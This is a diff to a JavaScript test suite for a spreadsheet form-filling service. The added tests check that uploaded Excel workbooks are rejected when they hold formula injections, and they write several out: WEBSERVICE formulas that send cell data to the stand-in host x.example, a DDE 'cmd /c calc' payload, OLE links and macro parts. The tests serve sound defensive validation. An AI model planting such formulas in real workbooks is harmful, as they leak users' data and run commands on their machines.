@@ -13,6 +13,17 @@ const phone = '13900001234';
 const blank = (columns, rows) => Array.from({ length: rows }, () => Array(columns).fill(''));
 const villages = (...headings) => workbook({ rows: [['村', ...headings], ['口头庄村', ...headings.map(() => '')], ['河口村', ...headings.map(() => '')]] });
 const list = (...headings) => workbook({ rows: [headings, ...blank(headings.length, 4)] });
+// A workbook with parts changed, by their names: what a part becomes, or the part under another name.
+function changed(bytes, change) {
+  const parts = new Map(Object.entries(unzipped(bytes)).map(([part, { content }]) => [part, content.toString()]));
+  change(parts);
+  return zipped([...parts]);
+}
+const related = (bytes, kind, target, content) => changed(bytes, (parts) => {
+  const part = 'xl/_rels/workbook.xml.rels';
+  parts.set(part, parts.get(part).replace('</Relationships>', `<Relationship Id="more" Type="${kind}" Target="${target}"/></Relationships>`));
+  parts.set(`xl/${target}`, content);
+});
 
 function scenario(name, database) {
   describe(name, () => {
@@ -227,6 +238,55 @@ function scenario(name, database) {
         }
       }
       assert.equal((await site.get(null, '/api/v1/forms/meanings')).status, 401);
+    });
+
+    test('what a form is, its relations and its formulas say, not the names of its parts', async () => {
+      const rows = [['村', '家庭户'], ['口头庄村', '']], office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+      const calling = workbook({ rows: [...rows, [{ f: 'WEBSERVICE("http://x.example/?"&B2)' }, '']] });
+      const elsewhere = (to) => changed(calling, (parts) => {
+        const sheet = 'xl/worksheets/sheet1.xml', relations = 'xl/_rels/workbook.xml.rels';
+        parts.set(`xl/${to}`, parts.get(sheet));
+        parts.delete(sheet);
+        parts.set(relations, parts.get(relations).replace('worksheets/sheet1.xml', to));
+      });
+      const quoted = (f) => workbook({ rows: [...rows, [{ f }, '']] });
+      for (const [code, bytes] of [
+        ['form_calls_out', quoted(`'x"y'!A1&WEBSERVICE("http://x.example/?"&B2)`)],
+        ['form_calls_out', quoted(`'it''s"'!A1&_xlfn.WEBSERVICE("http://x.example/?"&B2)`)],
+        ['form_calls_out', quoted(`T[a"b]&"x"&cmd|'/c calc'!A0`)],
+        ['form_calls_out', quoted(`T[it'[s"b]&WEBSERVICE("x"&B2)`)],
+        ['form_calls_out', quoted('MAP(B2,_xleta.WEBSERVICE)')],
+        ['form_calls_out', elsewhere('parts/p1.xml')],
+        ['form_calls_out', elsewhere('media/p1.png')],
+        ['form_connections', related(workbook({ rows }), `${office}/connections`, 'a1.xml', '<connections/>')],
+        ['form_connections', related(workbook({ rows }), 'http://x.example/none', 'a1.xml', '<queryTable/>')],
+        ['form_macros', related(workbook({ rows }), 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vba.bin', 'x')],
+        ['form_macros', related(workbook({ rows }), 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', 'm.xml', '<a/>')],
+        ['form_calls_out', related(workbook({ rows }), `${office}/externalLink`, 'e.xml', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')],
+        ['form_calls_out', related(workbook({ rows }), `${office}/externalLink`, 'e.xml', '<externalLink><oleLink progId="a"/></externalLink>')],
+        ['form_calls_out', related(workbook({ rows }), `${office}/table`, 't.xml', '<table><calculatedColumnFormula>WEBSERVICE(B2)</calculatedColumnFormula></table>')],
+      ]) {
+        const answer = await fill('county', bytes);
+        assert.deepEqual([answer.status, answer.json.code], [422, code], answer.text.slice(0, 300));
+      }
+      const harmless = related(quoted(`'x"y'!A1&"WEBSERVICE( | "`), `${office}/externalLink`, 'e.xml', '<externalLink><externalBook/></externalLink>');
+      assert.equal((await good(fill('county', harmless))).json.plan.links, true);
+      await good(fill('county', related(workbook({ rows }), `${office}/vmlDrawing`, 'd.vml', '<xml><br></xml>')));
+    });
+
+    test('what hardly shows is hidden, and is not filled: rows by default, columns and rows of next to no size', async () => {
+      const rows = [['村', '家庭户', '登记人员数'], ['口头庄村', '', ''], ['河口村', '', '']];
+      const thin = await good(fill('county', workbook({ rows, cols: '<col min="3" max="3" width="0.01" customWidth="1"/>' })));
+      assert.deepEqual(thin.json.cells.filter((cell) => cell.column === 2).map((cell) => cell.why?.code), ['form_hidden', 'form_hidden']);
+      const sheet = (change) => changed(workbook({ rows }), (parts) => parts.set('xl/worksheets/sheet1.xml', change(parts.get('xl/worksheets/sheet1.xml'))));
+      const low = await good(fill('county', sheet((xml) => xml.replace('<row r="3">', '<row r="3" ht="0.2" customHeight="1">'))));
+      assert.deepEqual(low.json.cells.map((cell) => cell.row), [2, 2]);
+      const narrow = await good(fill('county', sheet((xml) => xml.replace('<sheetData>', '<sheetFormatPr defaultColWidth="0.1"/><sheetData>'))));
+      assert.ok(narrow.json.cells.every((cell) => cell.why.code === 'form_hidden'));
+      const people = (inner) => changed(workbook({ rows: [['姓名', '出生日期', '性别']] }), (parts) => parts.set('xl/worksheets/sheet1.xml', parts.get('xl/worksheets/sheet1.xml').replace('<sheetData>', `${inner}<sheetData>`)));
+      assert.equal((await good(fill('village', people(''), { org: village }))).json.filled, 6);
+      const refused = await fill('village', people('<sheetFormatPr defaultRowHeight="15" zeroHeight="1"/>'), { org: village });
+      assert.deepEqual([refused.status, refused.json.code], [422, 'form_rows_short']);
     });
 
     test('forms that could do harm, and what is no form, are refused with their codes', async () => {
